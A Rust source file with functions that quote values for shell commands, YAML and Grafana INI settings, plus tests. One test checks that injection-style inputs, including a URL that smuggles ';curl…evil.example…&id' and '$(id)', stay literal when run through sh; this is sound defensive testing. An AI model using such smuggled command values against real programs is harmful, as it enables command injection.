//! Values as other programs' settings take them, so that what is shown can be pasted as it stands.

use std::fmt;

/// A command as people paste it into a POSIX shell: each of its words is one word there, whatever stands in it. There is no other
/// way to show a command with a value in it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ShellCommand(String);

impl ShellCommand {
    /// The command of these words.
    pub fn of(words: &[&str]) -> Self {
        Self(words.iter().map(|word| shell(word)).collect::<Vec<_>>().join(" "))
    }
}

impl fmt::Display for ShellCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A word of a POSIX shell command: as it is where no shell reads anything into it, else in single quotes.
pub fn shell(word: &str) -> String {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"-._/:@%+,=".contains(&b);
    if !word.is_empty() && word.bytes().all(plain) { word.to_owned() } else { format!("'{}'", word.replace('\'', "'\\''")) }
}

/// A scalar of YAML in double quotes: what JSON calls a string is one
/// ([YAML 1.2 §1.3](https://yaml.org/spec/1.2.2/#13-relation-to-json)). Without them `~` is null and `x:` is a map.
pub fn yaml(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

/// A value in an INI file as Grafana reads it: in backquotes where a comment would begin in it or quotes would be taken off.
pub fn ini(text: &str) -> String {
    if text.contains(['#', ';', '\'', '"']) { format!("`{text}`") } else { text.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attack_h2_a_command_that_is_shown_has_the_words_that_it_was_made_of_and_no_other() {
        for word in ["https://api.example/v1;curl$IFS'evil.example/x'&id", "$(id)", "`id`", "a b", "a\nb", "", "-x", "*", "~", "a\\b\"c"] {
            let command = ShellCommand::of(&["printf", "%s.", "latchkey", word]).to_string();
            let ran = std::process::Command::new("sh").args(["-c", &command]).output().unwrap();
            assert_eq!(String::from_utf8(ran.stdout).unwrap(), format!("latchkey.{word}."), "{command}");
        }
        assert_eq!(ShellCommand::of(&["latchkey", "user", "list"]).to_string(), "latchkey user list");
    }

    #[test]
    fn every_language_gives_back_the_value_that_was_quoted() {
        for (text, in_shell, in_yaml, in_ini) in [
            ("https://id.example.com:8443/a/b", "https://id.example.com:8443/a/b", "\"https://id.example.com:8443/a/b\"", None),
            ("-_aZ09.", "-_aZ09.", "\"-_aZ09.\"", None),
            ("@app", "@app", "\"@app\"", None),
            ("~", "'~'", "\"~\"", None),
            ("", "''", "\"\"", None),
            ("openid email", "'openid email'", "\"openid email\"", None),
            ("https://app/?a=1&b=$HOME", "'https://app/?a=1&b=$HOME'", "\"https://app/?a=1&b=$HOME\"", None),
            ("https://app/o'clock", "'https://app/o'\\''clock'", "\"https://app/o'clock\"", Some("`https://app/o'clock`")),
            ("https://app/a;b", "'https://app/a;b'", "\"https://app/a;b\"", Some("`https://app/a;b`")),
            ("a\"b\\c", "'a\"b\\c'", "\"a\\\"b\\\\c\"", Some("`a\"b\\c`")),
            ("--oidc-groups-prefix=oidc:", "--oidc-groups-prefix=oidc:", "\"--oidc-groups-prefix=oidc:\"", None),
        ] {
            assert_eq!(shell(text), in_shell);
            assert_eq!(yaml(text), in_yaml);
            assert_eq!(ini(text), in_ini.unwrap_or(text));
        }
    }
}
